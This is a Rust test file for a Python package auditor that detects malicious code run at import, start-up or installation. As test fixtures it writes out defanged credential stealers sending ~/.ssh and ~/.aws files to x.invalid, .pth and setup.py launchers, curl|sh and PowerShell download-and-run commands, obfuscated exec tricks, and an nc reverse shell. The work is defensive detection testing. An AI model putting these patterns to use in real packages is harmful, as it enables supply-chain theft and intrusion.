//! What installed code does at import and at installation: harmless stand-ins
//! of what was found in the wild, and shapes that honest packages have.
//!
//! Nothing here would do anything even if it were executed: what is decoded is
//! `pass`, hosts end in `.invalid`, and the secret files lie in no real home.

use crate::environment::Env;
use base64::Engine as _;
use guard::finding::{Finding, Kind, Severity};
use guard::{Outcome, Report};

/// Longer than a line of honest start-up code, and nothing but `pass`.
fn blob() -> String {
    base64::engine::general_purpose::STANDARD.encode("pass\n".repeat(1200))
}

/// The collector: opens what is not there, sends it to nobody.
const COLLECTOR: &str = r#"
import os
from base64 import b64encode as e

def collect():
    found = {}
    for place in ["/nowhere/.ssh/id_rsa", "/nowhere/.aws/credentials", "/nowhere/.kube/config"]:
        try:
            with open(place) as f:
                found[place] = f.read()
        except OSError:
            pass
    found["env"] = {}
    return e(repr(found).encode())
"#;

fn of(report: &Report, kind: Kind) -> Vec<&Finding> {
    report.findings.iter().filter(|finding| finding.kind == kind).collect()
}

#[track_caller]
fn critical<'r>(report: &'r Report, kind: Kind, file: &str) -> &'r Finding {
    assert_eq!(report.outcome, Outcome::Affected);
    let found = of(report, kind);
    let found = found.iter().find(|f| f.severity == Severity::Critical && f.subject.contains(file));
    let Some(found) = found else { panic!("nothing on {file} in {:#?}", report.findings) };
    let at = found.evidence.iter().filter_map(|seen| seen.place.as_ref());
    assert!(
        at.clone().any(|place| place.line > 0 && place.to_string().contains(file)),
        "{found:?}"
    );
    found
}

#[test]
fn a_blob_in_a_submodule_is_critical_as_in_1_82_7() {
    let env = Env::new();
    let code = format!(
        "import os\nimport subprocess, base64, sys\n\nx = 1\nb64 = \"{}\"\nsubprocess.run([sys.executable, \"-c\", f\"import base64; exec(base64.b64decode('{{b64}}'))\"], stdout=subprocess.DEVNULL)\n",
        blob()
    );
    env.install(
        "made-up",
        "1.82.7",
        &[("made_up/__init__.py", ""), ("made_up/proxy/proxy_server.py", &code)],
    );
    let report = env.audit();
    let found = critical(&report, Kind::Code, "made_up/proxy/proxy_server.py");
    assert!(found.subject.contains("made-up 1.82.7"));
    assert!(
        found.meaning.contains("`made_up.proxy.proxy_server` is imported"),
        "{}",
        found.meaning
    );
    let shown: String = found.evidence.iter().map(|seen| seen.text.as_str()).collect();
    assert!(shown.len() < 4000 && !shown.contains("cGFzcwpwYXNzCnBhc3MK"), "no payload is shown");
}

#[test]
fn a_blob_that_is_executed_directly_is_critical_however_it_is_spelled() {
    for code in [
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
        "from base64 import b64decode as d\nrun = exec\nrun(d(b'cGFzcw==').decode())\n",
        "getattr(__import__('builtins'), 'ex' + 'ec')(bytes.fromhex('70617373'))\n",
        "exec(''.join(map(chr, [112, 97, 115, 115])))\n",
        "import zlib, codecs\nexec(zlib.decompress(codecs.decode('nothing', 'rot13').encode()))\n",
        "eval(compile('ssap'[::-1], 'x', 'exec'))\n",
        "class A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        __builtins__.__dict__['exec'](bytes(c ^ 1 for c in self.p))\nA(b'q`rr').go()\n",
        "def f(t):\n    import marshal\n    return marshal.loads(t)\nexec(f(b''))\n",
        "import threading\nfrom binascii import unhexlify\nthreading.Thread(target=lambda: exec(unhexlify('70617373'))).start()\n",
        "for exec_ in (exec,):\n    exec_(__import__('base64').b64decode('cGFzcw=='))\n",
        "𝘦𝘹𝘦𝘤(__import__('base64').b64decode('cGFzcw=='))\n",
        "x = 1or exec(bytes([112, 97, 115, 115]))\n",
        "match 1:\n    case _ if exec(bytes([112, 97, 115, 115])):\n        pass\n",
        "@lambda f: exec(bytes.fromhex('70617373'))\ndef g(): pass\n",
        "def g(x=exec(bytes.fromhex('70617373'))): pass\n",
        "x: exec(bytes.fromhex('70617373')) = 1\n",
        "with open('x.txt') if 0 else exec(bytes.fromhex('70617373')) as f:\n    pass\n",
        "f'{exec(bytes.fromhex(\"70617373\"))}'\n",
        "import os\nos.system('echo cGFzcw== | base64 -d | sh')\n",
        "if __name__ != '__main__':\n    exec(bytes.fromhex('70617373'))\n",
        "__name__ = '__main__'\nif __name__ == '__main__':\n    exec(bytes.fromhex('70617373'))\n",
    ] {
        let env = Env::new();
        env.install("thing", "1.0", &[("thing/deep/a.py", code)]);
        let report = env.audit();
        let found = of(&report, Kind::Code);
        assert!(found.iter().any(|f| f.severity == Severity::Critical), "{code}\n{found:#?}");
    }
}

#[test]
fn what_is_written_to_be_started_is_read_too_and_so_is_what_a_picture_says() {
    let inner = "from urllib.request import urlopen as u;exec(u('https://x.invalid/a').read())";
    for (code, severity) in [
        (
            format!(
                "from tempfile import NamedTemporaryFile as F\nfrom os import system as s\nfrom sys import executable as e\nf = F(delete=False)\nf.write(b\"\"\"{inner}\"\"\")\nf.close()\ns(f'start {{e}} {{f.name}}')\n"
            ),
            Some(Severity::Critical),
        ),
        (
            format!(
                "import subprocess\nwith open('/nowhere/a.py', 'w') as f:\n    f.write({inner:?})\nsubprocess.run(['python', '/nowhere/a.py'])\n"
            ),
            Some(Severity::Critical),
        ),
        (
            format!("from pathlib import Path\nPath('/nowhere/a.py').write_text({inner:?})\n"),
            Some(Severity::High),
        ),
        ("with open('a.py', 'w') as f:\n    f.write('import os; exec(x)')\n".to_owned(), None),
        (
            "from stegano import lsb\nexec(lsb.reveal('cover.png'))\n".to_owned(),
            Some(Severity::Critical),
        ),
        (
            "import stegano\ncode = stegano.lsb.reveal('myimage.png')\neval(code)\n".to_owned(),
            Some(Severity::Critical),
        ),
        ("x = eval(\"'a.png'\")\n".to_owned(), None),
    ] {
        let env = Env::new();
        env.install("thing", "1.0", &[("thing/a.py", &code)]);
        let report = env.audit();
        let found = of(&report, Kind::Code).iter().map(|f| f.severity).max();
        assert_eq!(found, severity, "{code}\n{:#?}", report.findings);
    }
}

#[test]
fn a_command_that_executes_what_it_fetches_or_hides_is_critical() {
    let verdict = |command: &str| {
        let env = Env::new();
        env.install(
            "thing",
            "1.0",
            &[("thing/a.py", &format!("import os\nos.system({command:?})\n"))],
        );
        of(&env.audit(), Kind::Code).iter().map(|f| f.severity).max()
    };
    for command in [
        "curl https://x.invalid/a | sh",
        "curl -fsSL https://x.invalid/a | sudo -E bash -s --",
        "wget -qO- https://x.invalid/a|python3 -",
        "bash -c 'wget -q https://x.invalid/a -O- | bash'",
        "bash -c \"$(curl -fsSL https://x.invalid/a)\"",
        "bash <(curl -s https://x.invalid/a)",
        "curl -o /tmp/a https://x.invalid/a && chmod +x /tmp/a && /tmp/a",
        "powershell -c \"iex (New-Object Net.WebClient).DownloadString('https://x.invalid/a')\"",
        "powershell -c \"irm https://x.invalid/a | iex\"",
        "powershell (New-Object System.Net.WebClient).DownloadFile('http://x.invalid/a', 'a.exe'); Start-Process a.exe",
        "powershell -enc cABhAHMAcwA=",
        "mshta https://x.invalid/a.hta",
    ] {
        assert_eq!(verdict(command), Some(Severity::Critical), "{command}");
    }
    for command in [
        "curl -o data.json https://x.invalid/data.json",
        "wget -qO- https://x.invalid/a | tar xz",
        "curl -s https://x.invalid/a | grep version",
        "echo 1 | sh",
        "chmod +x tool && ./tool",
        "powershell -c Get-Date",
        "git rev-parse HEAD",
    ] {
        assert_eq!(verdict(command), None, "{command}");
    }
}

#[test]
fn the_launcher_is_critical_as_in_1_82_8_and_names_its_file_and_line() {
    let env = Env::new();
    let line = format!(
        "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{}'))\"])\n",
        blob()
    );
    env.install("made-up", "1.82.8", &[("made_up/__init__.py", ""), ("made_up_init.pth", &line)]);
    let report = env.audit();
    let found = critical(&report, Kind::StartupCode, "made_up_init.pth");
    assert!(found.meaning.contains("runs at every Python start"), "{}", found.meaning);
    assert!(of(&report, Kind::Integrity).is_empty(), "RECORD is right");
    assert!(crate::unwrapped(&report).contains("made_up_init.pth runs at every Python start"));
}

#[test]
fn what_start_up_code_imports_runs_at_every_start_too() {
    let stealer = format!(
        "{COLLECTOR}\nimport urllib.request\nurllib.request.urlopen('https://x.invalid', collect())\n"
    );
    let talker = "from .inner import go\n";
    for (file, text, code) in [
        ("a.pth", "import a.b\n", stealer.as_str()),
        (
            "a.pth",
            "import a; a.b.main()\n",
            "def main():\n    import socket\n    socket.create_connection(('x.invalid', 1))\n",
        ),
        (
            "a.start",
            "a.b:main\n",
            "def main():\n    import os\n    os.system('curl https://x.invalid | sh')\n",
        ),
        ("sitecustomize.py", "import a.b\n", stealer.as_str()),
    ] {
        let env = Env::new();
        env.install(
            "a",
            "1.0",
            &[
                (file, text),
                ("a/__init__.py", talker),
                ("a/inner.py", "def go(): pass\n"),
                ("a/b.py", code),
            ],
        );
        let report = env.audit();
        let found = critical(&report, Kind::StartupCode, file.split('.').next().unwrap());
        assert!(found.meaning.contains("runs at every Python start"));
        let named = found.evidence.iter().filter_map(|seen| seen.place.as_ref());
        assert!(named.clone().any(|place| place.file.ends_with("a/b.py")), "{found:#?}");
    }
}

#[test]
fn a_stealer_in_a_submodule_is_critical() {
    let env = Env::new();
    let code = format!(
        "{COLLECTOR}\nimport requests\nrequests.post('https://x.invalid/', data=collect())\n"
    );
    env.install("thing", "1.0", &[("thing/__init__.py", ""), ("thing/util/net.py", &code)]);
    let report = env.audit();
    let found = critical(&report, Kind::Code, "thing/util/net.py");
    assert!(found.meaning.contains("sends"), "{}", found.meaning);
}

#[test]
fn a_stealer_in_two_files_is_seen_where_they_meet() {
    let env = Env::new();
    let send = "from .collector import collect\nimport http.client\nc = http.client.HTTPSConnection('x.invalid')\nc.request('POST', '/', collect())\n";
    env.install(
        "thing",
        "1.0",
        &[
            ("thing/__init__.py", "from . import send\n"),
            ("thing/collector.py", COLLECTOR),
            ("thing/send.py", send),
        ],
    );
    critical(&env.audit(), Kind::Code, "thing/");
}

#[test]
fn a_setup_py_that_steals_says_that_it_runs_at_installation() {
    let code = format!(
        "{COLLECTOR}\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n        import urllib.request\n        urllib.request.urlopen('https://x.invalid', data=collect())\n        install.run(self)\n\nsetup(name='thing', cmdclass={{'install': Post}})\n"
    );
    let env = Env::new();
    env.install("thing", "1.0", &[("thing-1.0/setup.py", &code)]);
    let report = env.audit();
    let found = critical(&report, Kind::Code, "setup.py");
    assert!(found.meaning.contains("installed from source"), "{}", found.meaning);
}

#[test]
fn a_second_stage_in_a_sound_file_is_critical() {
    let code = r#"
import base64, subprocess, sys, tempfile, wave, urllib.request, os

def play():
    path = os.path.join(tempfile.gettempdir(), "ringtone.wav")
    urllib.request.urlretrieve("http://x.invalid/ringtone.wav", path)
    with wave.open(path, "rb") as sound:
        frames = sound.readframes(sound.getnframes())
    key, body = frames[:8], frames[8:]
    plain = bytes(b ^ key[i % 8] for i, b in enumerate(body))
    subprocess.Popen([sys.executable, "-c", plain.decode()])

play()
"#;
    let env = Env::new();
    env.install("thing", "1.0", &[("thing/_client.py", code)]);
    let report = env.audit();
    let found = critical(&report, Kind::Code, "thing/_client.py");
    assert!(found.meaning.contains("sound or pictures"), "{}", found.meaning);
}

#[test]
fn persistence_beside_a_download_is_critical() {
    let code = r#"
import os, urllib.request
from pathlib import Path
unit = Path.home() / ".config" / "systemd" / "user" / "sysmon.service"
unit.write_text("[Service]")
body = urllib.request.urlopen("https://x.invalid/raw").read()
open("/nowhere/sysmon.py", "wb").write(body)
"#;
    let env = Env::new();
    env.install("thing", "1.0", &[("thing/a.py", code)]);
    critical(&env.audit(), Kind::Code, "thing/a.py");
}

#[test]
fn an_encoding_in_which_code_hides_is_high() {
    let env = Env::new();
    env.install("thing", "1.0", &[("thing/a.py", "# coding: utf_7\nx = 1\n")]);
    let report = env.audit();
    assert_eq!(of(&report, Kind::Code)[0].severity, Severity::High);
}

#[test]
fn shapes_of_honest_packages_are_quiet() {
    for code in [
        // versions from a repository, settings from the environment
        "import subprocess\ntry:\n    v = subprocess.check_output(['git', 'describe'])\nexcept OSError:\n    v = b''\n",
        "import os\nconfig = {k: v for k, v in os.environ.items() if k.startswith('DASK_')}\n",
        "import os\nTOKEN = os.environ.get('TOKEN') or os.getenv('OTHER_TOKEN', '')\n",
        // code from templates
        "exec(\"\"\"def raise_from(value, cause):\n    raise value from cause\n\"\"\")\n",
        "import collections\nfor name in ('a', 'b'):\n    exec('%s = 1' % name)\n",
        "def make(spec):\n    code = compile('\\n'.join(spec), '<x>', 'exec')\n    exec(code, {})\nmake(['a = 1'])\n",
        // data in the source
        "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n",
        "import zlib, base64, json\nTABLE = json.loads(zlib.decompress(base64.b85decode('abc')))\n",
        "import requests\nsession = requests.Session()\nsession.headers['x'] = 'y'\n",
        "import httpx\nclient = httpx.Client()\ndef get(url):\n    return client.get(url)\n",
        // deny lists of sandboxes
        "SECRETS = ['~/.ssh', '~/.aws', '~/.kube/config', '~/.netrc', '.env']\ndef hidden(path):\n    return any(s in path for s in SECRETS)\n",
        // settings that name a file and open it only when they are loaded
        "from pathlib import Path\nENV_FILE = Path('.env')\nif ENV_FILE.exists():\n    pass\n",
        "import socket\ns = socket.socket()\ns.bind(('', 0))\n",
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import subprocess\n",
    ] {
        let env = Env::new();
        env.install("thing", "1.0", &[("thing/a.py", code)]);
        let report = env.audit();
        let loud: Vec<_> =
            report.findings.iter().filter(|f| f.severity >= Severity::Medium).collect();
        assert!(loud.is_empty(), "{code}\n{loud:#?}");
    }
}

#[test]
fn an_honest_setup_py_is_quiet() {
    for code in [
        "from setuptools import setup\nexec(open('thing/version.py').read())\nsetup(version=__version__)\n",
        "import subprocess, sys\nfrom setuptools import setup\nif sys.argv[-1] == 'publish':\n    subprocess.call('twine upload dist/*', shell=True)\nsetup()\n",
        "import os\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass Build(build_ext):\n    def run(self):\n        env = os.environ.copy()\n        __import__('subprocess').check_call(['cmake', '.'], env=env)\nsetup(cmdclass={'build_ext': Build})\n",
    ] {
        let env = Env::new();
        env.install("thing", "1.0", &[("src/setup.py", code)]);
        let report = env.audit();
        assert!(
            report.findings.iter().all(|f| f.severity < Severity::Medium),
            "{code}\n{report:#?}"
        );
    }
}

/// Shapes of honest packages that were called hidden code, each with what it stands for.
#[test]
fn honest_shapes_of_the_first_lot_stay_quiet() {
    for code in [
        // Texts are put together from what is gone through from its end.
        "def f(args):\n    out = []\n    for a, i in reversed(list(zip(args, args))):\n        out.append(str(a))\n    exec('\\n'.join(out))\nf(x)\n",
        // What is cut off a text does not come into it.
        "import codecs\nBOM = codecs.BOM_UTF8.decode('utf-8')\ndef f(text):\n    return eval(text.lstrip(BOM))\n",
        // A program that copies, whose name ends like one that gives a shell.
        "import subprocess\ndef f(to):\n    subprocess.run(['rsync', '-az', '-e', 'ssh -F ' + to, to])\n",
        // Memory that is filled, and not run.
        "import base64, ctypes\ndef f(t):\n    return ctypes.create_string_buffer(base64.b64decode(t))\n",
        // A table of letters and what they stand for.
        "T = str.maketrans('АВСЕМ.,~', 'ABCEM+/=')\n",
        // What a source file says, from its path.
        "from pathlib import Path\nv = Path(__file__).parent / 'version_of_this.py'\nwith v.open(encoding='utf-8') as f:\n    exec(compile(f.read(), v, 'exec'))\n",
        // Plug-ins of its own, by names that only the run would tell.
        "import importlib.util, os\nhere = os.path.dirname(os.path.abspath(__file__))\nfor name in os.listdir(here):\n    if name.endswith('.py'):\n        spec = importlib.util.spec_from_file_location(name, os.path.join(here, name))\n        spec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
    ] {
        let env = Env::new();
        env.install("made-up", "1.0", &[("made_up/__init__.py", code)]);
        assert!(of(&env.audit(), Kind::Code).is_empty(), "{code}");
    }
    let env = Env::new();
    let shell = "import os\nos.system('nc -e /bin/sh 192.0.2.1 9')\n";
    env.install("made-up", "1.0", &[("made_up/__init__.py", shell)]);
    critical(&env.audit(), Kind::Code, "made_up/__init__.py");
}
